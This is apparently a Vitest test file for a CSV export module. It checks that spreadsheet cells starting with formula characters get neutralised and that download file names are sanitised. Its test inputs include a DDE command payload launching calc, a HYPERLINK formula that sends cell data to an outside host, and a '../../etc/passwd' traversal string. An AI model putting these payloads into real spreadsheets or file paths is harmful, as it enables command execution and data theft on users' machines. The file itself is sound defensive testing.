// Safe downloads (OWASP "CSV Injection"): a text cell that begins with =, +, -, @, tab or CR gets a
// leading apostrophe and quotes; numbers stay numbers; file names keep only safe characters.
import {describe, expect, it} from "vitest";
import {csvCell, safeFileName, toCsv} from "../../src/components/csv.ts";

describe("csvCell", () => {
  it("neutralises formula-looking text with a leading apostrophe, and quotes it", () => {
    expect(csvCell('=HYPERLINK("http://x.example/?a="&A1;"klicka")')).toBe(`"'=HYPERLINK(""http://x.example/?a=""&A1;""klicka"")"`);
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(csvCell("@SUM(1)")).toBe(`"'@SUM(1)"`);
    expect(csvCell("+46 63 14 75 00")).toBe(`"'+46 63 14 75 00"`);
    expect(csvCell("\t=1+1")).toBe(`"'\t=1+1"`);
    expect(csvCell("\r=1+1")).toBe(`"'\r=1+1"`);
    expect(csvCell("  =1+1")).toBe(`"'  =1+1"`);
    expect(csvCell("\uFF1D1+1")).toBe(`"'\uFF1D1+1"`); // full-width equals sign
  });
  it("leaves plain text and plain numbers as they are", () => {
    expect(csvCell("Åre")).toBe("Åre");
    expect(csvCell("Ragunda;Bräcke")).toBe(`"Ragunda;Bräcke"`);
    expect(csvCell("a=b")).toBe("a=b");
    // Numbers the site writes as numbers stay numbers, negative ones too.
    expect(csvCell(-25940)).toBe("-25940");
    expect(csvCell(-3.25, 1)).toBe("-3,3");
    // Text that is only a number cannot start a formula: not mangled.
    expect(csvCell("-12")).toBe("-12");
    expect(csvCell("-3,5 %")).toBe("-3,5 %");
    expect(csvCell("+1 234,5")).toBe("+1 234,5");
    // A minus sign (U+2212) as the site prints it is not a formula character.
    expect(csvCell("−25 940 kr")).toBe("−25 940 kr");
    expect(csvCell(null)).toBe("");
  });
  it("a whole CSV: header labels from the data are neutralised too", () => {
    const csv = toCsv([{name: "=1+2", value: -5}], [{label: "@kommun", value: (r) => r.name}, {label: "saldo", value: (r) => r.value}]);
    expect(csv).toBe(`\uFEFF"'@kommun";saldo\r\n"'=1+2";-5\r\n`);
  });
});

describe("safeFileName", () => {
  it("keeps codes and safe words", () => {
    expect(safeFileName("jamfor-23-kostnad-2024.csv")).toBe("jamfor-23-kostnad-2024.csv");
    expect(safeFileName("mt-fast-del-2025H2.csv")).toBe("mt-fast-del-2025H2.csv");
    expect(safeFileName("vaccination-23-2023/24-covid-19")).toBe("vaccination-23-2023-24-covid-19.csv");
    expect(safeFileName("kommun-Östersund-å.csv")).toBe("kommun-Ostersund-a.csv");
  });
  it("removes what a name from the data could smuggle in", () => {
    expect(safeFileName("normalvariation-2380-=HYPERLINK(\"x\").csv")).toBe("normalvariation-2380-HYPERLINK-x.csv");
    expect(safeFileName("../../etc/passwd")).toBe("etc-passwd.csv");
    expect(safeFileName("-2+3+cmd|' /C calc'!A0.csv")).toBe("2-3-cmd-C-calc-A0.csv");
    expect(safeFileName("a\u0000b\r\nc.csv")).toBe("a-b-c.csv");
    expect(safeFileName("@@@")).toBe("tabell.csv");
    expect(safeFileName("x".repeat(300)).length).toBe(120);
  });
});
